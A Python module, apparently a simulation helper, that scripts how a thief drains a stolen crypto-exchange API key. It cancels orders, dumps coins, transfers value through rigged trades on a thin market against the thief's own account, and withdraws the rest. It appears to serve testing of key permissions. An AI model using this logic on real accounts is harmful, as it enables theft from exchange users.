"""The thief's script: what somebody does with a key that is not theirs, whatever the key turns out to allow."""

import contextlib
import hashlib
from collections.abc import Callable
from decimal import ROUND_DOWN, ROUND_UP, Decimal
from typing import Any

import base58

from nupool_helpers.clients import Exchange
from nupool_helpers.errors import ApiError, PermissionDenied, WorkbookError

__all__ = ["Attacker"]

_STEP = Decimal("0.00000001")
_LEAST_VALUE = Decimal("0.0005")  # of an order, in BTC
_WITH_FEE = Decimal("1.0025")


class Attacker:
    """Works with a stolen key, and with an account of their own. `calls` tells each call and what was answered.

    `thin` is the market that the thief quotes, `price` the coin's price there, and `markup` how many times too dear the
    thief sells, and too cheap buys.
    """

    def __init__(self, stolen: Exchange, own: Exchange, thin: str, price: Decimal, markup: int) -> None:
        self.stolen, self.own, self.thin, self.price, self.markup = stolen, own, thin, price, markup
        self.calls: list[tuple[str, str]] = []

    def look(self) -> None:
        """See what there is."""
        self._call("account/getbalances")

    def cancel(self) -> None:
        """Free the coins that orders hold."""
        for order in self._call("market/getopenorders"):
            self._call("market/cancel", uuid=order["OrderUuid"])

    def sell(self) -> None:
        """Sell for bitcoin whatever somebody buys, at any price."""
        for coin, free in self._free().items():
            market = f"BTC-{coin}"
            if coin != "BTC" and market != self.thin:
                with contextlib.suppress(ApiError):  # too little of it, perhaps; the next coin
                    self._sell(market, free)

    def trade(self) -> None:
        """Be the other side of the account's trades, on a market where nobody else stands."""
        coin, free = self.thin.partition("-")[2], self._free()
        cheap, dear = _cut(self.price / self.markup), _cut(self.price * self.markup)
        if free.get(coin, Decimal(0)) * cheap >= _LEAST_VALUE:
            with self._offer(self.own.buy_limit, free[coin], cheap):
                self._order("sell", self.thin, free[coin], cheap)
        quantity = _cut(self._free().get("BTC", Decimal(0)) / (dear * _WITH_FEE))
        if quantity * dear >= _LEAST_VALUE:
            with self._offer(self.own.sell_limit, quantity, dear):
                self._order("buy", self.thin, quantity, dear)

    def send(self) -> None:
        """Send away what is left."""
        for coin, free in self._free().items():
            with contextlib.suppress(ApiError):  # less than sending it costs; the next coin
                self._call("account/withdraw", currency=coin, quantity=f"{free:f}", address=self._loot(coin))

    def _free(self) -> dict[str, Decimal]:
        free_by_coin = {b["Currency"]: Decimal(f"{b['Available']:.8f}") for b in self._call("account/getbalances")}
        return {coin: free for coin, free in free_by_coin.items() if free > 0}

    def _sell(self, market: str, quantity: Decimal) -> None:
        try:
            self._call("market/sellmarket", market=market, quantity=f"{quantity:f}")
        except PermissionDenied:  # a limit that everybody's bid is above does the same
            lowest = (_LEAST_VALUE / quantity).quantize(_STEP, ROUND_UP)
            placed = self._order("sell", market, quantity, lowest)
            with contextlib.suppress(ApiError):  # sold altogether
                self._call("market/cancel", uuid=placed["uuid"])

    def _order(self, side: str, market: str, quantity: Decimal, rate: Decimal) -> Any:
        return self._call(f"market/{side}limit", market=market, quantity=f"{quantity:f}", rate=f"{rate:f}")

    @contextlib.contextmanager
    def _offer(self, place: Callable[..., str], quantity: Decimal, rate: Decimal) -> Any:
        """The thief's own order, which stands for one trade."""
        placed = place(self.thin, quantity, rate)
        try:
            yield
        finally:
            with contextlib.suppress(ApiError):
                self.own.cancel(placed)

    def _loot(self, coin: str) -> str:
        """An address outside of the exchange, of the kind that the coin has."""
        own_address = self.own.call("account/getdepositaddress", currency=coin)["Address"]
        outside = base58.b58decode_check(own_address)[:1] + hashlib.sha256(coin.encode()).digest()[:20]
        return base58.b58encode_check(outside).decode()

    def _call(self, path: str, **params: str) -> Any:
        words = " ".join(f"{name}={value}" for name, value in params.items() if name not in ("uuid", "address"))
        try:
            result = self.stolen.call(path, **params)
        except WorkbookError as error:
            self.calls.append((f"{path} {words}".strip(), str(error)))
            raise
        self.calls.append((f"{path} {words}".strip(), "done"))
        return result


def _cut(amount: Decimal) -> Decimal:
    return amount.quantize(_STEP, ROUND_DOWN)
